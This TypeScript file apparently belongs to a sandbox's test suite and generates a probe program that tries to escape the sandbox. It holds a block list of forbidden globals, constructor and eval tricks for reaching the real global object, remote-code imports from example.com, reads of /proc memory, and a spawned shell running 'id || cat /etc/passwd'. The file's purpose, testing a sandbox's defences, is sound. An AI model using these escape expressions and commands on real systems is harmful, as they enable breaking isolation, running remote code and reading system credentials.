/**
 * What programs reach for to get out of the sandbox. The first half is plain data for one program that tries everything
 * and prints what came of it; a name says what was tried.
 */

/** Globals by which a page or a worker gets at storage, other windows, the network or the kernel. */
export const FORBIDDEN_GLOBALS = [
  ...['window', 'self', 'document', 'parent', 'top', 'opener', 'frames', 'location', 'origin', 'name'],
  ...['indexedDB', 'caches', 'cookieStore', 'localStorage', 'sessionStorage', 'Worker', 'SharedWorker'],
  ...['XMLHttpRequest', 'importScripts', 'RTCPeerConnection', 'WebTransport', 'Notification', 'Image'],
  ...['open', 'close', 'postMessage', 'onmessage', 'addEventListener', 'dispatchEvent', 'FontFace'],
  ...['OffscreenCanvas', 'WorkerGlobalScope', 'DedicatedWorkerGlobalScope', 'registration', 'clients'],
  ...['ServiceWorkerContainer', 'StorageManager', 'FileSystemDirectoryHandle', 'FileReaderSync', 'alert'],
  ...['navigator.storage', 'navigator.serviceWorker', 'navigator.sendBeacon', 'navigator.usb'],
  ...['navigator.permissions', 'navigator.credentials', 'navigator.mediaDevices'],
];

/** Ways to a global object that is not the one that was cleaned. */
const ROOTS: Readonly<Record<string, string>> = {
  'the global object': 'globalThis',
  'Function’s this': "Function('return this')()",
  'a constructor’s constructor': "[].constructor.constructor('return this')()",
  'an async function’s constructor': "await (async () => {}).constructor('return this')()",
  'a generator’s constructor': "(function* () {}).constructor('return this')().next().value ?? globalThis",
  'the constructor of a host’s function': "process.cwd.constructor('return this')()",
  'indirect eval': "(0, eval)('this')",
  'Reflect.construct': "Reflect.construct(Function, ['return this'])()",
  'vm, this context': "require('vm').runInThisContext('this')",
  'vm, a new context': `require('vm').runInNewContext('this.constructor.constructor("return this")()')`,
  'the receiver of a frame': `(() => {
      const before = Error.prepareStackTrace;
      Error.prepareStackTrace = (_error, sites) => sites.map((site) => site.getThis?.());
      const found = [].concat(new Error().stack).find((value) => value?.postMessage);
      Error.prepareStackTrace = before;
      return found ?? globalThis;
    })()`,
};

/** Ways to load or send something; each is an expression that must not come to anything. */
const DOORS: Readonly<Record<string, string>> = {
  'fetch of another host': "fetch('https://example.com/')",
  'a web socket to another host': `new Promise((resolve, reject) => {
      const socket = new WebSocket('wss://example.com/');
      socket.onopen = () => resolve('open');
      socket.onerror = () => reject(new Error('no'));
    })`,
  'import of a web address': "import('https://example.com/x.mjs')",
  'import from eval': `eval("import('https://example.com/x.mjs')")`,
  'import from Function': `Function("return import('https://example.com/x.mjs')")()`,
  'import of an address of the page': `Function("return import('/_engine/manifest.json')")()`,
  'a thread from a web address': `new Promise((resolve, reject) => {
      const { Worker } = require('worker_threads');
      new Worker(new URL('https://example.com/x.mjs')).on('online', resolve).on('error', reject);
    })`,
  'a connection to another machine': `new Promise((resolve, reject) => {
      require('net').connect(80, '93.184.215.14').on('connect', resolve).on('error', reject);
    })`,
  'a name of another machine': "require('dns/promises').lookup('example.com')",
  'the memory of the kernel': "require('fs').readFileSync('/proc/1/mem')",
  'its own memory as a file': "require('fs').readFileSync('/proc/self/mem')",
  'the memory of another process': "require('fs').readFileSync(`/proc/${process.ppid}/mem`)",
  'a native addon': "require('./addon.node')",
  'a debugger': "require('inspector').open(9229) ?? Promise.reject(new Error('no'))",
  'a binding of Node': "require('internal/bootstrap/realm')",
  // The sandbox has a small shell of its own, which knows no command of the machine.
  'a command of the machine': `new Promise((resolve, reject) => {
      const child = require('child_process').spawn('/bin/sh', ['-c', 'id || cat /etc/passwd']);
      child.on('error', reject).on('exit', (code) => (code === 0 ? resolve('it ran') : reject(new Error('no'))));
    })`,
};

/** The program that tries all of it, and prints what it got as JSON. */
export const reachProgram = `
  const found = {};
  const forbidden = ${JSON.stringify(FORBIDDEN_GLOBALS)};
  const reach = (path, from) => path.split('.').reduce((value, key) => value?.[key], from);
  const look = (name, root) => {
    const hits = forbidden.filter((path) => reach(path, root) !== undefined);
    for (let holder = Object.getPrototypeOf(root); holder; holder = Object.getPrototypeOf(holder)) {
      for (const own of Object.getOwnPropertyNames(holder)) {
        if (holder !== Object.prototype && typeof reach(own, holder) === 'function') hits.push('behind it: ' + own);
      }
    }
    if (hits.length > 0) found[name] = hits;
  };
  (async () => {
    ${Object.entries(ROOTS)
      .map(
        ([name, root]) =>
          `try { look(${JSON.stringify(name)}, ${root}); } catch (error) { found[${JSON.stringify(name)}] = String(error); }`,
      )
      .join('\n    ')}
    await Promise.all([
      ${Object.entries(DOORS)
        .map(
          ([name, door]) =>
            `(async () => ${door})().then((got) => { found[${JSON.stringify(name)}] = String(got); }, () => {}),`,
        )
        .join('\n      ')}
    ]);
    console.log(JSON.stringify(found));
    process.exit();
  })();`;

/** The same names from a thread and from a child process, which are workers of their own. */
export const relayedReachProgram = `
  const { Worker } = require('worker_threads');
  const { fork } = require('child_process');
  if (process.argv[2] !== 'main') require('./reach.cjs');
  else {
    new Worker('./reach.cjs');
    fork('./reach.cjs');
  }`;
